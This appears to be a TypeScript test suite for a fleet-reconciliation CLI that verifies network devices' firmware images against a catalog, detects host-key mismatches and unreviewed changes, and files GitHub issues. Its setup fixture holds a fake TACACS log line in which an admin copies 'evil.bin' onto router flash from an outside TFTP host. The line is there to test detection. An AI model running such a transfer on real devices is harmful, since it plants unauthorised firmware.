import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { startFakeGitHub, type FakeGitHub } from '../../test/support/fake-github.js';
import { buildDemoRepo, TIMES } from '../demo/scenario.js';
import { GitRepo } from '../git/index.js';
import type { DeviceState, StateFile } from '../model/state.js';
import { loadGitRef } from '../repo/index.js';
import { memoryIo } from './io.js';
import { runCli } from './run.js';

const ROOT = join(import.meta.dirname ?? new URL('.', import.meta.url).pathname, '..', '..');
let dir: string;
let repoDir: string;
let clean: StateFile;
let mergeSha: string;

/** What a healthy fleet reports: every device on its desired image, boot and register, hashes as in the catalog. */
async function healthyState(): Promise<StateFile> {
  const { model } = await loadGitRef(new GitRepo(repoDir), 'HEAD');
  if (!model) throw new Error('no model');
  const devices: DeviceState[] = model.devices.map((d) => {
    const img = model.catalog.images.find((i) => i.id === d.image);
    return {
      device: d.name,
      platform: d.platform,
      collectedAt: TIMES.collect,
      status: 'ok',
      facts: {
        version: { version: img?.version ?? '', image: `flash:${img?.file ?? ''}` },
        ...(d.boot ? { boot: { boot: d.boot.system, ...(d.boot.configRegister ? { configRegister: d.boot.configRegister } : {}) } } : {}),
        hash: { file: img?.file ?? '', algorithm: 'sha512', digest: img?.sha512 ?? '' },
      },
    };
  });
  return { version: 1, kind: 'imagegate-state', generatedAt: TIMES.collect, devices };
}

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'ig-cli-reconcile-'));
  repoDir = join(dir, 'repo');
  mergeSha = buildDemoRepo(ROOT, repoDir).merge;
  clean = await healthyState();
  writeFileSync(join(dir, 'clean.json'), JSON.stringify(clean));
  const bad = structuredClone(clean);
  const first = bad.devices[0];
  if (first) Object.assign(first, { status: 'unverified', reason: 'host-key-mismatch', presentedHostKey: 'SHA256:evil', facts: {} });
  writeFileSync(join(dir, 'hostkey.json'), JSON.stringify(bad));
  writeFileSync(join(dir, 'broken.json'), '{\n  "version": 1,\n  "kind": "imagegate-state",\n  oops\n}');
  writeFileSync(
    join(dir, 'tacacs.acct'),
    `Dec 12 14:20:00\t192.0.2.32\tadmin\tvty0\t203.0.113.66\tstop\ttask_id=1\ttimezone=UTC\tservice=shell\tpriv-lvl=15\tcmd=copy tftp://203.0.113.66/evil.bin flash:evil.bin <cr>\n`,
  );
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

async function cli(args: string[], env: NodeJS.ProcessEnv = {}) {
  const io = memoryIo(env, dir);
  const code = await runCli(['reconcile', '--repo', repoDir, '--at', TIMES.collect, ...args], io);
  return { code, out: io.out, err: io.err };
}

test('a clean fleet: exit 0 and a Markdown report', async () => {
  const r = await cli(['--state', 'clean.json']);
  expect(r.err).toContain('0 findings, 15/15 devices verified');
  expect(r.out).toContain('**No findings.**');
  expect(r.code).toBe(0);
});

test('findings at or above --fail-on exit 1; JSON is versioned', async () => {
  const r = await cli(['--state', 'hostkey.json', '--events', 'tacacs.acct', '--format', 'json']);
  expect(r.code).toBe(1);
  const json = JSON.parse(r.out) as { version: number; findings: Array<{ rule: string; severity: string }>; coverage: { eventFiles: Array<{ lines: number }> } };
  expect(json.version).toBe(1);
  expect(json.findings.map((f) => f.rule).sort()).toEqual(['unauthorized-transfer', 'unverified']);
  expect(json.coverage.eventFiles[0]?.lines).toBe(1);
  expect((await cli(['--state', 'hostkey.json', '--events', 'tacacs.acct', '--fail-on', 'critical'])).code).toBe(0);
});

test('bad input exits 2 naming the file and line', async () => {
  const r = await cli(['--state', 'broken.json']);
  expect(r.code).toBe(2);
  expect(r.err).toMatch(/broken\.json:4: the state file is not valid JSON/);
  const at = await cli(['--state', 'clean.json', '--at', 'yesterday']);
  expect([at.code, at.err]).toEqual([2, expect.stringContaining('--at "yesterday" is not an ISO 8601 time')]);
  expect((await cli([])).code).toBe(2);
});

describe('--github', () => {
  let fake: FakeGitHub;
  beforeEach(async () => {
    fake = await startFakeGitHub();
    fake.repo('acme/network');
    // what GitHub knows of the demo's PR #42: merged, into the merge commit on main
    fake.addPull('acme/network', { number: 42, user: 'alice', state: 'closed', head: { ref: 'upgrade-nyc1-access-01', sha: 'a'.repeat(40) }, mergeCommitSha: mergeSha, mergedAt: '2026-12-01T10:00:00Z' });
  });
  afterEach(() => fake.close());
  const env = (): NodeJS.ProcessEnv => ({ GITHUB_TOKEN: fake.token, GITHUB_REPOSITORY: 'acme/network', GITHUB_API_URL: fake.url, IMAGEGATE_GITHUB_NO_WAIT: '1' });

  test('files issues once; a second run makes no new issue and no new comment', async () => {
    const a = await cli(['--state', 'hostkey.json', '--events', 'tacacs.acct', '--out', 'r1.md', '--github'], env());
    expect(a.err).toContain('github: 2 created');
    // PR #42 is an issue too
    expect([...fake.repo('acme/network').issues.values()].filter((i) => i.number !== 42)).toHaveLength(2);
    fake.requests.length = 0;
    const b = await cli(['--state', 'hostkey.json', '--events', 'tacacs.acct', '--out', 'r2.md', '--github'], env());
    expect(b.err).toContain('github: 0 created, 0 updated, 0 reopened, 0 closed');
    expect(fake.requests.filter((q) => q.method !== 'GET')).toEqual([]);
    const c = await cli(['--state', 'clean.json', '--out', 'r3.md', '--github'], env());
    expect(c.err).toContain('2 closed');
    expect(fake.violations).toEqual([]);
  });

  test('a change whose commit names a PR that GitHub does not show as merged is an unreviewed change', async () => {
    const other = await startFakeGitHub();
    try {
      other.repo('acme/network');
      const r = await cli(['--state', 'clean.json', '--format', 'json', '--verify-prs', '--fail-on', 'none'], { ...env(), GITHUB_TOKEN: other.token, GITHUB_API_URL: other.url });
      const json = JSON.parse(r.out) as { findings: Array<{ rule: string; severity: string; device: string; reasons: string[] }> };
      expect(json.findings).toEqual([
        expect.objectContaining({ rule: 'unreviewed-change', severity: 'high', device: 'nyc1-access-01', reasons: [expect.stringMatching(/names pull request #42, but GitHub does not list #42 as merged/)] }),
      ]);
      expect(other.violations).toEqual([]);
      // the same run against the GitHub that knows PR #42 finds nothing
      const ok = await cli(['--state', 'clean.json', '--format', 'json', '--verify-prs', '--fail-on', 'none'], env());
      expect((JSON.parse(ok.out) as { findings: unknown[] }).findings).toEqual([]);
      expect(ok.err).toContain('1 recent changes checked against their pull requests, 0 not confirmed');
    } finally {
      other.close();
    }
  });

  test('the findings file is written before any API call, so a GitHub outage loses nothing', async () => {
    fake.failNext(100, 502);
    const r = await cli(['--state', 'hostkey.json', '--out', 'r4.md', '--findings', 'findings.json', '--github'], { ...env(), GITHUB_TOKEN: fake.token });
    expect(r.code).toBe(2);
    expect(r.err).toMatch(/HTTP 502/);
    expect(r.err).not.toContain(fake.token);
    expect(existsSync(join(dir, 'findings.json'))).toBe(true);
    const written = JSON.parse(readFileSync(join(dir, 'findings.json'), 'utf8')) as { version: number; findings: Array<{ rule: string; reasons: string[] }> };
    expect(written.version).toBe(1);
    // GitHub down: the PR behind the merged change cannot be confirmed either, and that is reported, not assumed
    expect(written.findings.map((f) => f.rule).sort()).toEqual(['unreviewed-change', 'unverified']);
    expect(written.findings.find((f) => f.rule === 'unreviewed-change')?.reasons[0]).toMatch(/GitHub could not confirm its pull request/);
  });
});
